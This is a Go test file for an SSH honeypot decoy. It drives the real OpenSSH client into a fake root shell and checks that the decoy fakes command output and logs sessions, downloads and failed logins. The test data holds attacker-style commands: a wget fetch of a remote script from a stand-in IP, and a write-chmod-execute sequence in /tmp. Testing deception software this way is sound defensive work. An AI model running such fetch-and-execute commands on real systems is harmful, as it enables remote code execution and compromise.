package ssh_test

import (
	"bytes"
	"crypto/ed25519"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	xssh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/decoys/decoytest"
	"github.com/decnet/decnet/decoys/ssh"
	"github.com/decnet/decnet/pkg/decnet"
)

func newKey(t testing.TB, n byte) xssh.Signer {
	t.Helper()
	s, err := xssh.NewSignerFromKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{n}, ed25519.SeedSize)))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// openSSH runs the genuine client as root with the password "secret" and
// returns what it prints and its exit status.
func openSSH(t *testing.T, d *decoytest.Decoy, stdin string, args ...string) (string, int) {
	t.Helper()
	client, err := exec.LookPath("ssh")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		t.Skip("the OpenSSH client is not installed")
	}
	// The client asks this program for the password: there is no terminal.
	askpass := filepath.Join(t.TempDir(), "askpass")
	if err := os.WriteFile(askpass, []byte("#!/bin/sh\necho secret\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	host, port, _ := strings.Cut(d.Addr, ":")
	all := append([]string{
		"-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "PreferredAuthentications=password", "-o", "IdentityAgent=none", "-p", port,
	}, args...)
	i := slices.Index(all, "--")
	all = append(all[:i], append([]string{"root@" + host}, all[i+1:]...)...)
	cmd := exec.CommandContext(t.Context(), client, all...)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+askpass, "SSH_ASKPASS_REQUIRE=force", "TERM=xterm-256color")
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	if exit, ok := errors.AsType[*exec.ExitError](err); ok {
		return string(out), exit.ExitCode()
	} else if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return string(out), 0
}

func TestOpenSSHClient(t *testing.T) {
	commands := []string{"id", "uname -a", "wget http://198.51.100.7/x.sh", "exit"}
	typed := strings.Join(commands, "\n") + "\n"
	tests := []struct {
		name, stdin string
		args        []string
		kind, term  string
	}{
		{"exec", "", []string{"--", strings.Join(commands, "; ")}, "exec", ""},
		{"exec with a terminal", "", []string{"-tt", "--", strings.Join(commands, "; ")}, "exec", "xterm-256color"},
		{"shell without a terminal", typed, []string{"-T", "--"}, "shell", ""},
		{"shell with a terminal", typed, []string{"-tt", "--"}, "shell", "xterm-256color"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			d := decoytest.Start(t, ssh.Service(), fast(nil))
			out, status := openSSH(t, d, test.stdin, test.args...)
			if status != 4 { // wget's, which exit passes on
				t.Errorf("exit status is %d", status)
			}
			for _, want := range []string{
				"uid=0(root) gid=0(root) groups=0(root)", "Linux " + d.Persona.Hostname + " " + d.Persona.Kernel, "failed: No route to host.",
			} {
				if !strings.Contains(out, want) {
					t.Errorf("the output lacks %q:\n%s", want, out)
				}
			}
			var have []string
			for _, e := range d.Kind(decnet.KindCommand) {
				have = append(have, e.Fields[decnet.FieldCommand])
			}
			if !slices.Equal(have, commands) {
				t.Errorf("have commands %q, want %q", have, commands)
			}
			session := d.WaitFor("session", 1)[0].Fields
			if session["type"] != test.kind || session["term"] != test.term || session["user"] != "root" {
				t.Errorf("have session %v", session)
			}
			if test.kind == "exec" && session["exec"] != strings.Join(commands, "; ") {
				t.Errorf("have exec %q", session["exec"])
			}
			if e := d.WaitFor("download", 1)[0].Fields; e["url"] != "http://198.51.100.7/x.sh" || e["tool"] != "wget" {
				t.Errorf("have download %v", e)
			}
			if e := d.Kind("client")[0].Fields; !strings.HasPrefix(e["version"], "SSH-2.0-OpenSSH_") {
				t.Errorf("have client %v", e)
			}
		})
	}
}

func TestOpenSSHExitStatusAndInput(t *testing.T) {
	d := decoytest.Start(t, ssh.Service(), fast(nil))
	for command, want := range map[string]int{"true": 0, "false": 1, "exit 42": 42, "nosuch": 127, "ls /nope": 2} {
		if _, status := openSSH(t, d, "", "--", command); status != want {
			t.Errorf("%s: have %d, want %d", command, status, want)
		}
	}
	if out, _ := openSSH(t, d, "#!/bin/sh\necho run\n", "--", "cat > /tmp/x && chmod +x /tmp/x && /tmp/x && wc -c < /tmp/x"); out != "run\n19\n" {
		t.Errorf("have %q", out)
	}
}

func TestOpenSSHWrongPassword(t *testing.T) {
	d := decoytest.Start(t, ssh.Service(), fast(map[string]string{"login": "never"}))
	out, status := openSSH(t, d, "", "--", "id")
	if status != 255 || !strings.Contains(out, "Permission denied") {
		t.Errorf("have %d: %s", status, out)
	}
	if n := len(d.WaitFor(decnet.KindAuthAttempt, 3)); n != 3 { // the client's own bound
		t.Errorf("have %d attempts", n)
	}
}
